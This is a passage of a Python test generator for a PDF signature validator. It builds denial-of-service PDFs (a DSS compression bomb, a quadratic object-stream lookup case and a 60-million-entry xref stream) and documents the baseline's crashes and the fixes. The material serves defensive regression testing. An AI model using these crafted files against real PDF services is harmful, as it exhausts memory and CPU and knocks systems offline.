           b"/Length %d >>\nstream\n" % (index, 10 + subsections * per, len(z))
    tab = xs + len(head % 0) + len(z) + len(b"\nendstream\nendobj\n")
    out.extend(head % tab + z + b"\nendstream\nendobj\n")
    assert len(out) == tab
    out.extend(b"xref\n0 5\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % o for o in (off[1], off[2], off[3], xs))
               + b"trailer\n<< /Size 5 /Root 1 0 R >>\n")
    out.extend(b"startxref\n%d\n%%%%EOF\n" % xs)
    return bytes(out)


def exhaustion(m):
    signed = m.sign(m.base)
    size = ap.trailer_keys(signed)[1]
    root = ap.reader(signed).trailer.raw_get("/Root").idnum
    z = zlib.compress(b"\0" * (60 << 20), 9)
    refs = b" ".join([b"%d 0 R" % (size + 1)] * 200)
    cat = ap.raw_object(signed, root).strip()
    cat = cat[:-2] + b" /DSS %d 0 R >>" % size
    attacked = ap.append_update(signed, [(size, b"<< /Certs [%s] >>" % refs),
                                         (size + 1, stream(z, b"/Filter /FlateDecode ")), (root, cat)])[0]
    m.case("dos-dss-flate-bomb", attacked, PASSED, "DoS: DSS compression bomb",
           "tests/fixtures/giay-phep.pdf signed by pyHanko (PAdES, Signer rsa); after it an update written by "
           f"this script adds a /DSS whose /Certs lists one Flate stream 200 times (object {size + 1}: "
           f"{len(z):,} bytes that inflate to 60 MiB of zeros): 12 GiB to decode from a {len(attacked):,}-byte "
           "file. The baseline kyso decoded every entry and kept them all before parsing any: under a 4 GiB "
           "address-space limit it aborted after 53 s (“memory allocation of 32 bytes failed”, SIGABRT); "
           "given 16 GB it answered TOTAL-PASSED after 154 s with 13 GB resident. DSS entries are decoded one "
           "by one within the document's budget of decoded bytes (32 times its size, at least 256 MiB), so "
           "the bomb only ends the reading of the DSS; a DSS is validation data the update may add, and the "
           "B-B signature needs none of it: TOTAL-PASSED, in about 3 s and 90 MB.")

    data = objstm_quadratic(60_000)
    m.case("dos-objstm-quadratic", data, NO_SIG, "DoS: object stream lookups",
           f"An unsigned PDF written by this script ({len(data):,} bytes): an xref stream, an /AcroForm whose "
           "/Fields lists 60,000 text fields (`<</FT/Tx>>`), all in one Flate object stream. The baseline kyso "
           "looked each object up by a linear search of its object stream, 60,000² steps before looking for "
           "signatures (8.8 s here; 20 times the fields, 400 times the time). An entry is read at the index "
           "the xref gives: the same NO_SIGNATURE, in 0.5 s.", "Python script (zlib)")

    data = xref_entries_bomb()
    m.case("dos-xref-stream-60m-entries", data, FAILED, "DoS: cross-reference entries",
           f"A PDF written by this script ({len(data):,} bytes): its cross-reference stream has /W [1 0 0] and "
           "an /Index of six subsections of 10,000,000 entries each, whose one-byte entries (all free) are "
           "60 MB of zeros compressed to a few dozen kilobytes; its /Prev is a small xref table for the three "
           "objects of the document. The baseline kyso kept every entry, then built a hash map of them: under "
           "a 4 GiB address-space limit it aborted after 102 s (“memory allocation of 3355443216 bytes "
           "failed”, SIGABRT); given 16 GB it answered NO_SIGNATURE after 303 s with 6.3 GB resident. "
           "Cross-reference data that decodes to more than the file could hold, or more entries than its "
           "bytes could hold objects for, is refused: TOTAL-FAILED/FORMAT_FAILURE, in under a second.",
           "Python script (zlib)")
